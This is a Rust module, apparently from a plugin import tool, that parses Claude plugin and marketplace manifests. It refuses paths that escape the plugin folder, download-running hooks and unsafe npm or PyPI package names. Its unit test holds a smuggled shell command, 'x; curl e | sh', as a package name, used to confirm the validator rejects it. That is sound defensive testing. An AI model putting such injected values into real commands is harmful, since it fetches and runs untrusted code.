//! Manifests of plugins and marketplaces. What a plugin holds are units of their own; here is what speaks for all of it.

use serde_json::Value;

use super::{agent_plugin, hooks, parse_json, remote, server, version};
use crate::detect::SourceFormat;
use crate::names::segment;
use crate::plan::{ImportNote, NoteKind, PluginFacts, RefusedSource, UnitContext, UnitPlan};
use crate::tree::SourcePath;

/// Fields of a Claude plugin that name places.
const PATH_FIELDS: [&str; 6] = ["commands", "agents", "skills", "hooks", "mcpServers", "outputStyles"];

/// Reads what a manifest says of the whole plugin.
pub(crate) fn plugin_facts(context: &UnitContext<'_>, facts: &mut PluginFacts) {
    let manifest = context.text().and_then(parse_json);
    let manifest = match manifest {
        Ok(manifest) if manifest.is_object() => manifest,
        Ok(_) => {
            facts.refusal = Some("its plugin's manifest is not a map".to_owned());
            return;
        }
        Err(reason) => {
            facts.refusal = Some(format!("its plugin's manifest cannot be used: {reason}"));
            return;
        }
    };
    if agent_plugin::is_agent_plugin(&manifest)
        && let Some(fault) = agent_plugin::manifest_fault(&manifest)
    {
        facts.refusal = Some(format!("its Agent Plugin cannot be used: {fault}"));
        return;
    }
    if let Some(name) = manifest["name"].as_str() {
        facts.name = Some(segment(name));
    }
    facts.version = version(manifest["version"].as_str());
    let root = context.unit.plugin_root.as_deref().unwrap_or_default();
    for field in PATH_FIELDS {
        let named = match &manifest[field] {
            Value::String(path) => vec![path.as_str()],
            Value::Array(paths) => paths.iter().filter_map(Value::as_str).collect(),
            _ => Vec::new(),
        };
        if let Some(path) = named.into_iter().find(|path| SourcePath::resolve(root, path).is_err()) {
            facts.refusal = Some(format!("its plugin's manifest names `{path}`, which leaves its folder"));
        }
    }
    let mut found = hooks::commands(&manifest["hooks"]).into_iter();
    if let Some(note) = found.find(|note| note.text.contains("(it runs a download)")) {
        facts.refusal = Some(format!("its plugin has a hook that runs a download: {}", note.text));
    }
}

/// Reads a plugin's manifest.
pub(super) fn read(context: &UnitContext<'_>) -> Result<UnitPlan, String> {
    let manifest = parse_json(context.text()?)?;
    let name = manifest["name"].as_str().ok_or("its manifest has no name")?;
    if segment(name).eq_ignore_ascii_case("rye") {
        return Err("a plugin called `rye` would be named like items of rye itself".to_owned());
    }
    let mut plan = UnitPlan { notes: hooks::commands(&manifest["hooks"]), ..UnitPlan::default() };
    if let Some(servers) = manifest["mcpServers"].as_object() {
        let found = server::read_servers(context, servers)?;
        plan.items = found.items;
        plan.refused = found.refused;
        plan.notes.extend(found.notes);
    }
    match context.unit.format {
        SourceFormat::AgentPlugin if agent_plugin::is_agent_plugin(&manifest) => {
            plan.notes.extend(agent_plugin::unknown_fields(&manifest).map(|field| {
                ImportNote::new(NoteKind::Warning, format!("`{field}` is not a field of an Agent Plugin"))
            }));
        }
        SourceFormat::AgentPlugin => {}
        _ => {
            let fields = manifest.as_object().into_iter().flatten().map(|(key, _)| key.as_str());
            for field in fields.filter(|field| {
                ["lspServers", "outputStyles", "monitors", "dependencies", "userConfig", "channels"]
                    .contains(field)
            }) {
                plan.notes.push(ImportNote::new(NoteKind::Lost, format!("`{field}` has no place here")));
            }
            for field in ["commands", "agents", "skills"] {
                if !manifest[field].is_null() {
                    plan.notes.push(ImportNote::new(NoteKind::Warning, format!("`{field}` names places of its own: only `{field}/` and skill folders are looked at")));
                }
            }
        }
    }
    Ok(plan)
}

/// Reads a marketplace: plugins beside it are units of their own, those elsewhere are named.
pub(super) fn read_marketplace(context: &UnitContext<'_>) -> Result<UnitPlan, String> {
    let document = parse_json(context.text()?)?;
    let plugins = document["plugins"].as_array().ok_or("it lists no plugins")?;
    let mut plan = UnitPlan::default();
    let path = context.unit.path.as_str();
    let folder = context.unit.path.folder();
    let root = folder
        .strip_suffix(".claude-plugin")
        .or_else(|| folder.strip_suffix(".github/plugin"))
        .or_else(|| folder.strip_suffix(".agents/plugins"))
        .unwrap_or(folder);
    let root = root.trim_end_matches('/');
    let base = document["metadata"]["pluginRoot"].as_str().unwrap_or_default();
    for plugin in plugins {
        let name = rye_item::text::one_line(plugin["name"].as_str().unwrap_or("unnamed"));
        let refuse = |reason: String| RefusedSource {
            source: format!("{} ({name})", context.listing.display_path(path)),
            reason,
        };
        let listed = &plugin["source"];
        // Some write a path beside the marketplace as an object.
        let is_path = |source: &&str| source.starts_with("./") || source.starts_with("../");
        let path_source = listed
            .as_str()
            .or_else(|| ["path", "url"].iter().find_map(|key| listed[key].as_str().filter(is_path)));
        let is_elsewhere = listed
            .get("url")
            .or(listed.get("repo"))
            .and_then(Value::as_str)
            .is_some_and(|address| !is_path(&address));
        match path_source.filter(|_| !is_elsewhere) {
            Some(source) => {
                let place = crate::tree::join(
                    base.trim_start_matches("./").trim_end_matches('/'),
                    source.trim_start_matches("./"),
                );
                match SourcePath::resolve(root, &place) {
                    Err(_) => plan
                        .refused
                        .push(refuse(format!("its source `{source}` leaves the marketplace's folder"))),
                    Ok(place) if context.listing.below(&place).next().is_none() => {
                        plan.refused.push(refuse(format!("its source `{source}` is not there")));
                    }
                    Ok(_) => {}
                }
            }
            None => {
                let found = remote::of_marketplace(context, &name, listed);
                if let Some(found) = found {
                    plan.remotes.push(found);
                    continue;
                }
                if let Some(reason) = package_refusal(listed) {
                    plan.refused.push(refuse(reason));
                    continue;
                }
                let keys = ["url", "repo", "package", "path"];
                let address = keys.iter().find_map(|key| listed[key].as_str()).unwrap_or("elsewhere");
                let kind = listed["source"].as_str().unwrap_or("unknown");
                plan.refused.push(refuse(format!("its source is {kind} `{address}`, which is not fetched: unpack it, then rye import the folder")));
            }
        }
    }
    Ok(plan)
}

/// Why a package of npm or PyPI is not fetched, with the commands that fetch it: no digest is named, and what a range of
/// versions stands for changes.
fn package_refusal(listed: &Value) -> Option<String> {
    let is_plain = |text: &&str| {
        !text.is_empty()
            && !text.starts_with('-')
            && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"@/._-+".contains(&byte))
    };
    let package = listed["package"].as_str().filter(is_plain)?;
    let version = listed["version"].as_str().filter(is_plain);
    // A registry of its own is one that the user has to know about first.
    let registry =
        listed["registry"].as_str().map(|_| "; it names a registry of its own").unwrap_or_default();
    let (kind, command) = match listed["source"].as_str()? {
        "npm" => {
            let at = version.map(|version| format!("@{version}")).unwrap_or_default();
            ("npm", format!("npm pack --ignore-scripts {package}{at}, then rye import the .tgz"))
        }
        "pip" | "pypi" => {
            let at = version.map(|version| format!("=={version}")).unwrap_or_default();
            let options = "--no-deps --only-binary :all:";
            ("PyPI", format!("pip download {options} {package}{at}, then rye import the .whl"))
        }
        _ => return None,
    };
    Some(format!("its source is the {kind} package `{package}`, which is not fetched{registry}: {command}"))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn packages_are_refused_with_their_commands() {
        let reason = |listed: Value| package_refusal(&listed);
        let npm = reason(json!({"source": "npm", "package": "@acme/kit", "version": "2.1.0"}));
        assert!(
            npm.expect("refused")
                .ends_with("npm pack --ignore-scripts @acme/kit@2.1.0, then rye import the .tgz")
        );
        let pip = reason(json!({"source": "pip", "package": "acme-kit"})).expect("refused");
        assert!(
            pip.ends_with("pip download --no-deps --only-binary :all: acme-kit, then rye import the .whl")
        );
        for listed in [
            json!({"source": "npm", "package": "x; curl e | sh"}),
            json!({"source": "npm", "package": "--registry=http"}),
            json!({"source": "other", "package": "x"}),
        ] {
            assert_eq!(reason(listed.clone()), None, "{listed}");
        }
    }
}
